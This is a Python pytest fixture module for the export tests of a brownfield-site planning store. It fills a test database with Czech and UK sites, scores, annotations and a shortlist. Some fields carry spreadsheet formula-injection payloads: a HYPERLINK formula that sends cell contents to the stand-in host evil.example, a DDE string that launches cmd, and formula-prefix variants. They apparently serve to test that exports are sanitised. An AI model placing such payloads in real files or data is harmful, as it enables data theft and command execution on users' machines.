"""A small store to export: the store tests' world, scores, hostile texts, notes, links and a shortlist.

- ``t:in``  brownfield in Děčany (564729), scored 72.5, status screening, a note and two annotations,
  linked to the municipality and eligible for call OPST-1; Czech register attributes.
- ``t:out`` a site whose name, note and annotation try formula injection; scored 31.
- ``t:mas`` excluded by the profile (score 0), with a handicap.
- ``uk:1``  a UK-register point site without a score.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import shapely

from gisplan.store import SYSTEM, Store, Tx, open_store
from gisplan.store.models import Community, Site, SiteScore
from gisplan.workflows import shortlists as sl
from tests.store.conftest import pg_schema, sqlite_template, store, store_url  # noqa: F401 - shared fixtures
from tests.store.helpers import World, build_world

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_NOTE = "+cmd|' /C calc'!A0"
HOSTILE_NOTES = ("@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1")
SHORTLIST = "Ústí 2027"
PROFILE = "ground_pv"


@dataclass
class ExportWorld:
    """The store's world plus the shortlist's name."""

    world: World
    shortlist: str


def _breakdown(score: float, *, excluded: bool = False, handicap: float = 0.0) -> list[dict[str, object]]:
    base = score + handicap
    lines: list[dict[str, object]] = [
        {
            "criterion": "area_m2",
            "raw": 10_000.0,
            "unit": "m2",
            "normalised": 0.8,
            "weight": 0.5,
            "contribution": base * 0.6,
            "provenance": "measured",
        },
        {
            "criterion": "dist_substation_m",
            "raw": 800.0,
            "unit": "m",
            "normalised": 0.6,
            "weight": 0.5,
            "contribution": base * 0.4,
            "provenance": "measured",
        },
    ]
    if handicap:
        lines.append({"criterion": "handicap:partly_protected", "raw": 0.2, "unit": "", "contribution": -handicap})
    if excluded:
        lines.append({"criterion": "exclusion", "raw": None, "unit": "", "contribution": -score})
    return lines


def _score(site_id: str, score: float, **kw: object) -> SiteScore:
    excluded = bool(kw.get("excluded", False))
    handicap = float(kw.get("handicap", 0.0))  # type: ignore[arg-type]
    return SiteScore(
        site_id=site_id,
        profile=PROFILE,
        profile_version="1",
        score=0.0 if excluded else score,
        excluded=excluded,
        exclusion_reasons=["Mostly inside a protected area"] if excluded else [],
        handicaps=[{"name": "partly_protected", "level": "heavy", "reason": "Partly inside a protected area"}]
        if handicap
        else [],
        breakdown=_breakdown(score, excluded=excluded, handicap=handicap)
        if not excluded
        else _breakdown(score, excluded=True),
        capacity_kwp=700.0,
        yield_kwh_kwp_yr=1_020.0,
        energy_mwh_yr=714.0,
        co2_t_yr=307.0,
        households=204.0,
        completeness=1.0,
        yield_source="irradiation_raster",
    )


def fill(db: Store) -> ExportWorld:
    """Populate an empty db (see the module docstring)."""
    world = build_world(db)

    def work(tx: Tx) -> None:
        # real-looking 6-digit codes (kód obce), as the Czech register wants them
        for site_id, code in (("t:in", "564729"), ("t:out", "599999"), ("t:mas", "564730")):
            row = tx.session.get(Site, site_id)
            assert row is not None
            row.municipality_code = code
            row.area_source = "geometry"  # as ingest records it for polygons
        community = tx.session.get(Community, world.municipality_111)
        assert community is not None
        community.code = "564729"
        site = tx.session.get(Site, "t:in")
        assert site is not None
        site.attributes = {
            "puvodni_vyuziti": "tezba",
            "previous_use": "mining",
            "ownership": "municipal",
            "stav": "ruiny",
        }
        site.name = "Bývalý důl Jan"
        out = tx.session.get(Site, "t:out")
        assert out is not None
        out.name = HOSTILE_NAME
        tx.session.add(
            Site(
                id="uk:1",
                kind="brownfield",
                name="Former Rossington Colliery",
                source="uk",
                source_id="1",
                area_m2=517_000.0,
                area_source="declared:hectares[ha]",
                region_code="CZ042",
                municipality_code="564729",
                attributes={"ownership": "not owned by a public authority"},
                geom=tx.with_srid(shapely.Point(-765_000.0, -985_000.0)),
                status="new",
            )
        )
        tx.session.add_all(
            [_score("t:in", 72.5), _score("t:out", 31.0, handicap=10.0), _score("t:mas", 55.0, excluded=True)]
        )
        tx.session.flush()

    db.transaction(SYSTEM, work)
    site = db.get_site("t:in")
    db.change_status(world.admin, "t:in", "screening", expected_version=site.version)
    db.update_site(world.admin, "t:out", expected_version=db.get_site("t:out").version, note=HOSTILE_NOTE)
    db.add_annotation(world.animator, "t:in", "Owner agrees; <b>visit</b> in May & June.")
    db.add_annotation(world.admin, "t:in", "Grid connection study ordered.")
    for text in HOSTILE_NOTES:
        db.add_annotation(world.admin, "t:out", text)
    db.link_community(world.admin, "t:in", world.municipality_111, role="owner", note="obec vlastní")
    db.link_funding_call(world.admin, "t:in", world.call, verdict="eligible", reasons=["region CZ042 is eligible"])
    sl.create_shortlist(
        db,
        world.planner,
        SHORTLIST,
        description="pro zastupitelstvo",
        profile=PROFILE,
        site_ids=["t:in", "t:out", "t:mas", "uk:1"],
    )
    return ExportWorld(world=world, shortlist=SHORTLIST)


@pytest.fixture(scope="session")
def filled_template(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> tuple[Path, ExportWorld]:  # noqa: F811
    """A filled SQLite store, built once per session and copied for each test."""
    path = tmp_path_factory.mktemp("export-store") / "filled.sqlite"
    shutil.copyfile(sqlite_template, path)
    opened = open_store(f"sqlite:///{path}", upgrade=False)
    world = fill(opened)
    opened.close()
    return path, world


@pytest.fixture
def filled(tmp_path: Path, filled_template: tuple[Path, ExportWorld]) -> Iterator[tuple[Store, ExportWorld]]:
    """A private copy of the filled SQLite store (see :func:`fill`)."""
    template, world = filled_template
    folder = tmp_path / "store"
    folder.mkdir()
    shutil.copyfile(template, folder / "store.sqlite")
    opened = open_store(f"sqlite:///{folder / 'store.sqlite'}", upgrade=False)
    yield opened, world
    opened.close()
